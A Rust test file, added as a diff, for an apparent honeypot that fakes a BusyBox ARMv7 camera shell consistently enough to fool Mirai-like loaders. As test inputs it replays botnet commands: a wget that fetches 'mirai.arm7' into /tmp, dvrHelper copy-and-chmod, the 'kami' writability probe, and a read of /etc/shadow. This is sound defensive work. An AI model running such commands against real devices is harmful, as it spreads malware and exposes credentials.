@@ -1,0 +1,294 @@
+//! The BusyBox camera persona through the whole shell: every place that shows the
+//! machine tells of the same ARMv7 device, as a Mirai-like loader reads it.
+
+use super::*;
+
+fn device() -> Shell {
+    let world = World::new(Persona::busybox_device("cam-1", vec!["admin".into()]));
+    Shell::new(
+        world,
+        "root",
+        Limits {
+            max_line_bytes: 4096,
+            max_commands: 1000,
+        },
+        Origin {
+            client_ip: "203.0.113.9".into(),
+            server_ip: "192.168.1.108".into(),
+            now: 1_732_871_331,
+        },
+        false,
+    )
+}
+
+/// stdout then stderr of `line`, as bytes.
+fn run_bytes(sh: &mut Shell, line: &str) -> Vec<u8> {
+    let out = sh.exec(line);
+    let mut all = out.data;
+    all.extend_from_slice(&out.err);
+    all
+}
+
+fn run(sh: &mut Shell, line: &str) -> String {
+    String::from_utf8_lossy(&run_bytes(sh, line)).into_owned()
+}
+
+/// EI_CLASS, EI_DATA and e_machine of an ELF header.
+fn elf_kind(header: &[u8]) -> (u8, u8, u16) {
+    assert!(header.starts_with(b"\x7fELF"), "{header:?}");
+    (
+        header[4],
+        header[5],
+        u16::from_le_bytes([header[18], header[19]]),
+    )
+}
+
+#[test]
+fn uname_cpuinfo_memory_and_mounts_tell_of_one_armv7_device() {
+    let mut sh = device();
+    assert_eq!(run(&mut sh, "uname -m"), "armv7l\n");
+    assert_eq!(run(&mut sh, "arch"), "armv7l\n");
+    assert_eq!(
+        run(&mut sh, "uname -a"),
+        "Linux cam-1 4.9.37 #1 SMP Tue Jan 14 16:35:27 CST 2020 armv7l GNU/Linux\n"
+    );
+    assert_eq!(run(&mut sh, "uname -r"), "4.9.37\n");
+    let cpuinfo = run(&mut sh, "cat /proc/cpuinfo");
+    for field in [
+        "model name\t: ARMv7 Processor rev 5 (v7l)",
+        "BogoMIPS\t:",
+        "Features\t: half thumb",
+        "CPU implementer\t: 0x41",
+        "CPU architecture: 7",
+        "CPU part\t: 0xc07",
+        "Hardware\t: Hisilicon",
+        "Serial\t\t:",
+    ] {
+        assert!(cpuinfo.contains(field), "{field} in {cpuinfo}");
+    }
+    assert!(!cpuinfo.contains("Intel") && !cpuinfo.contains("flags"));
+    let processors = run(&mut sh, "grep -c processor /proc/cpuinfo");
+    assert_eq!(run(&mut sh, "nproc"), processors);
+    assert!(run(&mut sh, "cat /proc/version").contains("4.9.37"));
+    // Memory: tens of MB, the same total in /proc/meminfo, `free` and `top`.
+    let total = run(&mut sh, "grep MemTotal /proc/meminfo");
+    assert_eq!(total, "MemTotal:          59492 kB\n");
+    let free = run(&mut sh, "free");
+    assert!(
+        free.starts_with("             total       used       free     shared    buffers     cached\nMem:         59492 "),
+        "{free}"
+    );
+    assert!(free.contains("-/+ buffers/cache:"), "{free}");
+    assert!(run(&mut sh, "top").starts_with("Mem: "));
+    // Mounts: squashfs root, tmpfs /var and /tmp, writable flash; df agrees.
+    let mounts = run(&mut sh, "cat /proc/mounts");
+    for line in [
+        "/dev/root / squashfs ro",
+        "tmpfs /var tmpfs rw",
+        "tmpfs /tmp tmpfs rw",
+        "proc /proc proc",
+        "sysfs /sys sysfs",
+        "devpts /dev/pts devpts",
+        "/dev/mtdblock4 /mnt/mtd jffs2 rw",
+    ] {
+        assert!(mounts.contains(line), "{line} in {mounts}");
+    }
+    assert_eq!(run(&mut sh, "mount"), mounts);
+    let df = run(&mut sh, "df");
+    for mounted in [" /\n", " /var\n", " /tmp\n", " /mnt/mtd\n"] {
+        assert!(df.contains(mounted), "{mounted} in {df}");
+    }
+    // What the loader checks is writable is.
+    assert_eq!(
+        run(
+            &mut sh,
+            "echo -e '\\x6b\\x61\\x6d\\x69/mnt/mtd' > /mnt/mtd/.n; cat /mnt/mtd/.n; rm /mnt/mtd/.n"
+        ),
+        "kami/mnt/mtd\n"
+    );
+}
+
+#[test]
+fn binaries_are_32_bit_arm_links_to_busybox() {
+    let mut sh = device();
+    let echo = run_bytes(&mut sh, "cat /bin/echo");
+    assert_eq!(elf_kind(&echo), (1, 1, 0x28), "ELFCLASS32, LSB, EM_ARM");
+    assert_eq!(run_bytes(&mut sh, "/bin/busybox cat /bin/echo"), echo);
+    let dd = sh.exec("dd bs=52 count=1 if=/bin/echo");
+    assert_eq!(dd.data, echo[..52]);
+    assert_eq!(
+        run(&mut sh, "ls -l /bin/echo")
+            .trim_end()
+            .rsplit(' ')
+            .next(),
+        Some("/bin/busybox")
+    );
+    assert!(run(&mut sh, "ls -l /bin/echo").starts_with("lrwxrwxrwx"));
+    // BusyBox has no `file`; what it would say is the persona's.
+    assert_eq!(
+        run(&mut sh, "busybox file /bin/busybox"),
+        "file: applet not found\n"
+    );
+    assert!(
+        sh.world
+            .persona
+            .elf_description()
+            .starts_with("ELF 32-bit LSB executable, ARM, EABI5")
+    );
+    assert_eq!(
+        run(&mut sh, "which echo ifconfig wget"),
+        "/bin/echo\n/sbin/ifconfig\n/usr/bin/wget\n"
+    );
+    // A copied binary (Mirai's dvrHelper) is the same ARM file.
+    run(
+        &mut sh,
+        "cd /tmp; /bin/busybox cp /bin/echo dvrHelper; /bin/busybox chmod 777 dvrHelper",
+    );
+    assert_eq!(
+        elf_kind(&run_bytes(&mut sh, "cat /tmp/dvrHelper")),
+        (1, 1, 0x28)
+    );
+    // A fetched "binary" too.
+    run(
+        &mut sh,
+        "wget -q http://198.51.100.23/bins/mirai.arm7 -O /tmp/m",
+    );
+    assert_eq!(elf_kind(&run_bytes(&mut sh, "cat /tmp/m")), (1, 1, 0x28));
+    // No Debian tree.
+    let root = run(&mut sh, "ls /");
+    assert!(
+        !root.contains("lib64") && !root.contains("boot") && root.contains("mnt"),
+        "{root}"
+    );
+    assert!(run(&mut sh, "ls /usr/lib/x86_64-linux-gnu").contains("No such file"));
+    assert!(run(&mut sh, "cat /etc/os-release").contains("No such file"));
+}
+
+#[test]
+fn busybox_lists_what_the_tree_has_and_refuses_the_rest() {
+    let mut sh = device();
+    let usage = run(&mut sh, "busybox");
+    assert!(
+        usage.starts_with("BusyBox v1.24.1 (2019-11-28 10:21:44 CST) multi-call binary.\n"),
+        "{usage}"
+    );
+    let (_, listed) = usage.split_once("Currently defined functions:\n").unwrap();
+    let listed: Vec<&str> = listed
+        .split([',', '\n', '\t', ' '])
+        .filter(|a| !a.is_empty())
+        .collect();
+    assert_eq!(listed, persona::device::APPLETS);
+    assert_eq!(
+        run(&mut sh, "busybox --list").lines().collect::<Vec<_>>(),
+        listed
+    );
+    for applet in &listed {
+        // Installed as a link to the binary...
+        let path = run(&mut sh, &format!("which {applet}"));
+        assert!(path.ends_with(&format!("/{applet}\n")), "{applet}: {path}");
+        assert!(run(&mut sh, &format!("ls -l {}", path.trim_end())).contains("-> /bin/busybox"));
+        // ...and emulated: neither the name nor the applet is "not found".
+        for line in [applet.to_string(), format!("/bin/busybox {applet}")] {
+            let mut fresh = device();
+            let out = run(&mut fresh, &line);
+            assert!(!out.contains("not found"), "{line}: {out}");
+        }
+    }
+    assert_eq!(
+        run(&mut sh, "/bin/busybox MIRAI"),
+        "MIRAI: applet not found\n"
+    );
+    assert_eq!(run(&mut sh, "busybox lscpu"), "lscpu: applet not found\n");
+    // What a Debian box has and a camera does not.
+    for missing in [
+        "lscpu",
+        "apt-get install curl",
+        "python3 -V",
+        "perl -e 1",
+        "sudo id",
+        "systemctl status",
+        "curl -O http://198.51.100.2/x",
+        "getconf LONG_BIT",
+    ] {
+        let name = missing.split(' ').next().unwrap();
+        assert_eq!(run(&mut sh, missing), format!("-sh: {name}: not found\n"));
+    }
+    assert_eq!(
+        run(&mut sh, "/usr/bin/perl -e 1"),
+        "-sh: /usr/bin/perl: not found\n"
+    );
+}
+
+#[test]
+fn accounts_processes_and_network_are_the_devices() {
+    let mut sh = device();
+    let passwd = run(&mut sh, "cat /etc/passwd");
+    assert!(
+        passwd.starts_with("root:x:0:0:root:/root:/bin/sh\n"),
+        "{passwd}"
+    );
+    assert!(passwd.contains("admin:x:1000:1000:Linux User,,,:/home/admin:/bin/sh\n"));
+    assert!(!passwd.contains("nologin") && !passwd.contains("systemd"));
+    assert!(run(&mut sh, "head -n 1 /etc/shadow").starts_with("root:$1$"));
+    let ps = run(&mut sh, "ps");
+    assert!(
+        ps.starts_with("  PID USER       VSZ STAT COMMAND\n    1 root      1580 S    init\n"),
+        "{ps}"
+    );
+    assert!(ps.contains(" telnetd\n") && ps.contains(" -sh\n") && !ps.contains("systemd"));
+    assert_eq!(run(&mut sh, "ps aux"), ps);
+    let ifconfig = run(&mut sh, "ifconfig");
+    assert!(
+        ifconfig.starts_with("eth0      Link encap:Ethernet  HWaddr 00:12:41:3A:1C:2D"),
+        "{ifconfig}"
+    );
+    assert!(ifconfig.contains("inet addr:192.168.1.108  Bcast:192.168.1.255  Mask:255.255.255.0"));
+    assert!(run(&mut sh, "ip link").contains("link/ether 00:12:41:3a:1c:2d"));
+    assert!(run(&mut sh, "ip route").contains("src 192.168.1.108"));
+    assert!(run(&mut sh, "netstat -an").contains("0.0.0.0:23 "));
+    assert_eq!(
+        run(&mut sh, "echo $SHELL $PATH"),
+        "/bin/sh /bin:/sbin:/usr/bin:/usr/sbin\n"
+    );
+    assert_eq!(run(&mut sh, "echo \"[$BASH_VERSION]\""), "[]\n");
+    assert_eq!(run(&mut sh, "nosuch"), "-sh: nosuch: not found\n");
+    assert_eq!(run(&mut sh, "[ 1 = 1"), "-sh: [: missing `]'\n");
+}
+
+#[test]
+fn the_login_greets_with_the_devices_busybox_and_an_ash_prompt() {
+    let mut sh = device();
+    let greeting = String::from_utf8_lossy(&sh.greeting().data).into_owned();
+    assert!(
+        greeting.contains("BusyBox v1.24.1 (2019-11-28 10:21:44 CST) built-in shell (ash)"),
+        "{greeting}"
+    );
+    assert!(greeting.ends_with("~ # "), "{greeting}");
+    run(&mut sh, "cd /tmp");
+    assert_eq!(sh.prompt(), "/tmp # ");
+}
+
+#[test]
+fn the_debian_machine_keeps_its_x86_64_binaries() {
+    let world = World::new(Persona::debian("web-1", vec![]));
+    let mut sh = Shell::new(
+        world,
+        "root",
+        Limits {
+            max_line_bytes: 4096,
+            max_commands: 50,
+        },
+        Origin {
+            client_ip: "203.0.113.9".into(),
+            server_ip: "10.0.0.5".into(),
+            now: 1_732_871_331,
+        },
+        false,
+    );
+    assert_eq!(elf_kind(&run_bytes(&mut sh, "cat /bin/echo")), (2, 1, 0x3e));
+    assert!(run(&mut sh, "file /bin/ls").contains("ELF 64-bit LSB pie executable, x86-64"));
+    assert_eq!(run(&mut sh, "getconf LONG_BIT"), "64\n");
+    assert!(run(&mut sh, "busybox").contains("BusyBox v1.35.0 (Debian 1:1.35.0-4+b3)"));
+    assert!(run(&mut sh, "lscpu").starts_with("Architecture:            x86_64"));
+    assert!(run(&mut sh, "cat /proc/mounts").starts_with("/dev/vda1 / ext4"));
+}
